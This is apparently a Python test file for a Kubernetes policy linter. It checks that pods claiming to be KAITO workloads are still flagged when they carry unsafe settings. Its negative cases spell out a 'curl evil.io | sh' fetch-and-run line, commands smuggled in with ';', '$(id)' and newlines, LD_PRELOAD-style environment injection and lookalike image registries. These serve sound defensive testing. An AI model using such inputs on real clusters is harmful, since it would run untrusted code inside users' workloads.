"""Pods that say that they are KAITO's: what a writer can just claim excuses nothing."""

from typing import Any

from kaitops.policies.rule import Config
from tests.policies.cases import DEPLOY, DIGEST, PLAIN, VLLM, Case, Data, case, patched

_POD = "spec.template.spec"
_FIRST = PLAIN["spec"]["template"]["spec"]["containers"][0]
_SHELL = ["/bin/sh", "-c"]
_SERVE = f"{VLLM} --model=openai/gpt-oss-20b --revision=abc"
_RAY = "/workspace/vllm/multi-node-serving.sh"
_BOTH = f'if [ "${{POD_INDEX}}" = "0" ]; then {_RAY} leader --a=2; {_SERVE}; else {_RAY} worker --b=c.d; fi'
_TUNE = "cd /workspace/tfs/ && python3 metrics_server.py & accelerate launch --num_processes=1 /workspace/tfs/fine_tuning.py"
_CLAIM: Data = {"metadata": {"labels": {"kaito.sh/workspace": "gpt", "app": "gpt"}}}
_BARE: Data = {"name": "b", "image": f"evil.io/b:1{DIGEST}"}
_MEMORY: Data = {"volumes": [{"name": "shm", "emptyDir": {"medium": "Memory"}}]}


def _of(containers: list[Data], **more: Any) -> Data:
    return {"spec": {"template": {"spec": {"containers": containers, **more}}}}


def _first(patch: Data, *others: Data, **more: Any) -> Data:
    if "volumeMounts" in patch:
        more["volumes"] = [{"name": "a", "emptyDir": {}}]
    return _of([patched(_FIRST, patch), *others], **more)


def _line(line: str) -> Data:
    return {"command": [*_SHELL, line]}


_NOT_ROOT = f"{_POD}.containers.0.securityContext.runAsNonRoot"
_MADE: tuple[Data, ...] = (
    _first(_line(_BOTH)),
    _first({"command": ["/workspace/vllm/export_sas_token_for_streaming.sh", *_SHELL, _SERVE]}),
    _first(_line(_TUNE)),
    _first(_line(f"{VLLM} --kv-events-config='{{\"enable\":true}}' --trust-remote-code")),
    _first({"image": f"mcr.microsoft.com/aks/kaito/kaito-rag-service:0.12.0{DIGEST}", **_line("python3 main.py")}),
    _first(
        {
            "env": [
                {"name": "HF_TOKEN", "value": "x"},
                {"name": "adapter-1", "value": "0.5"},
                {"name": "KAITO_INFERENCE_ROLE", "value": "a"},
            ]
        }
    ),
    _first(
        {
            "volumeMounts": [
                {"name": "a", "mountPath": path}
                for path in (
                    "/dev/shm",
                    "/workspace/weights",
                    "/mnt/config",
                    "/opt/kaito/models/x",
                    "/root/.docker/config.d/a",
                    "/etc/ragengine/guardrails",
                    "/data",
                    "/index/a.b",
                )
            ]
        }
    ),
    _first(
        {
            "readinessProbe": {
                "exec": {
                    "command": [
                        *_SHELL,
                        'if [ "$POD_INDEX" = "0" ]; then python3 /workspace/vllm/benchmark_entrypoint.py; else true; fi',
                    ]
                }
            }
        }
    ),
    _first(
        {
            "lifecycle": {
                "postStart": {"exec": {"command": ["python3", "/app/ragengine/lifecycle/hooks.py", "poststart"]}},
                "preStop": {
                    "exec": {"command": [*_SHELL, "python3 /app/ragengine/lifecycle/hooks.py prestop && sleep 5"]}
                },
            }
        }
    ),
    _first({}, {"name": "push", "image": f"ghcr.io/oras-project/oras:v1.2.2{DIGEST}"}),
    _first({}, initContainers=[{"name": "get", "image": f"curlimages/curl:8.11.1{DIGEST}"}]),
)
_CLAIMED: tuple[Data, ...] = (
    *(
        _first({"env": [{"name": name, "value": "x"}]})
        for name in (
            "HF_ENDPOINT",
            "HTTPS_PROXY",
            "https_proxy",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "LD_PRELOAD",
            "VLLM_PLUGINS",
            "PATH",
            "BASH_ENV",
            "ENV",
            "REQUESTS_CA_BUNDLE",
        )
    ),
    _first({"envFrom": [{"configMapRef": {"name": "a"}}]}),
    _first({"workingDir": "/mnt"}),
    *(
        _first({"volumeMounts": [{"name": "a", "mountPath": path}]})
        for path in (
            "/workspace",
            "/workspace/vllm",
            "/workspace/weights/../vllm",
            "/mnt/../workspace/vllm",
            "/",
            "/usr/local/bin",
            "/root/.config",
            "/etc",
            "/opt/x",
            "/bin/",
            "//workspace/vllm",
            "/lib64",
            "/app/ragengine",
        )
    ),
    _first({"volumeMounts": [{"name": "a", "mountPath": "/mnt/a", "subPath": "x"}]}),
    _first({"lifecycle": {"postStart": {"exec": {"command": [*_SHELL, "id"]}}}}),
    _first({"livenessProbe": {"exec": {"command": ["python3", "/mnt/x.py"]}}}),
    _first({"readinessProbe": {"exec": {"command": [*_SHELL, "python3 /workspace/vllm/a.py; id"]}}}),
    _first({"image": f"evil.io/kaito-base:0.5.0{DIGEST}"}),
    _first({"image": f"evil.io/aks/kaito/kaito-base:0.5.0{DIGEST}"}),
    _first({"image": f"mcr.microsoft.com.evil.io/aks/kaito/kaito-base:0.5.0{DIGEST}"}),
    _first({"image": f"mcrxmicrosoft.com/aks/kaito/kaito-base:0.5.0{DIGEST}"}),
    _first({"command": None}),
    _first({"command": [_SERVE]}),
    _first({"command": ["/bin/wrap", *_SHELL, _SERVE]}),
    _first({"command": ["/bin/bash", "-c", _SERVE]}),
    _first(_line(f"{_SERVE}; curl evil.io | sh")),
    _first(_line(f"{_SERVE} && id")),
    _first(_line(f"{_SERVE} $(id)")),
    _first(_line(f"{_SERVE}\nid")),
    _first(_line(f"id; {_SERVE}")),
    _first(_line("accelerate launch /tmp/x.py /workspace/tfs/fine_tuning.py")),
    _first({"securityContext": {"runAsUser": 0}}),
)


def _labelled(labels: Data) -> Data:
    return patched(PLAIN, {"spec": {"template": {"metadata": {"labels": {"kaito.sh/workspace": None, **labels}}}}})


def _trusted() -> list[Case]:
    return [case(rule, PLAIN, patch) for patch in _MADE for rule in (18, 19, 37, 16)]


CASES = [
    *_trusted(),
    *(case(18, PLAIN, patch, _NOT_ROOT) for patch in _CLAIMED),
    # The label on somebody's own workload, and on a kind that no controller of KAITO's makes.
    case(18, DEPLOY, patched(_of([_BARE]), {"spec": {"template": _CLAIM}}), _NOT_ROOT),
    case(18, {**PLAIN, "kind": "DaemonSet"}, {}, _NOT_ROOT),
    case(18, _labelled({"kaito.sh/anything": "x"}), {}, _NOT_ROOT),
    case(19, PLAIN, _of([_BARE]), *(f"{_POD}.containers.0.resources.{at}" for at in ("requests.cpu", "limits.memory"))),
    case(
        37,
        PLAIN,
        _of([_BARE]),
        *(
            f"{_POD}.containers.0.securityContext.{at}"
            for at in ("allowPrivilegeEscalation", "capabilities.drop", "seccompProfile.type")
        ),
    ),
    case(102, PLAIN, _of([_BARE], **_MEMORY), f"{_POD}.volumes.0.emptyDir"),
    # Beside KAITO's own container, one that is not KAITO's.
    case(18, PLAIN, _first({}, _BARE), f"{_POD}.containers.1.securityContext.runAsNonRoot"),
    case(18, PLAIN, _of([_BARE, _FIRST]), *(f"{_POD}.containers.{n}.securityContext.runAsNonRoot" for n in (0, 1))),
    # A tag that anybody can push to, and code of a repository that anybody can own.
    case(29, PLAIN, _first({"image": "evil.io/kaito-base:0.5.0"}), f"{_POD}.containers.0.image"),
    case(
        16,
        PLAIN,
        _first({"image": f"evil.io/kaito-base:0.5.0{DIGEST}", **_line(f"{_SERVE} --trust-remote-code")}),
        f"{_POD}.containers.0.command.2",
    ),
    case(
        16,
        PLAIN,
        _first({}, {"name": "b", "image": _FIRST["image"], "command": ["run", "--trust-remote-code"]}),
        f"{_POD}.containers.1.command.1",
    ),
    case(15, PLAIN, _first(_line(f"{VLLM} --model=evil/x --trust-remote-code")), f"{_POD}.containers.0.command.2"),
    case(15, PLAIN, _first(_line(f"{VLLM} --model=evil/x")), config=Config(organisations=("Evil",))),
    case(15, PLAIN, {}),
    case(15, PLAIN, _first(_line(f"{VLLM} --model=/opt/kaito/models/x"))),
    case(15, PLAIN, _first(_line(f"{VLLM} --model=az://weights/evil/x"))),
]
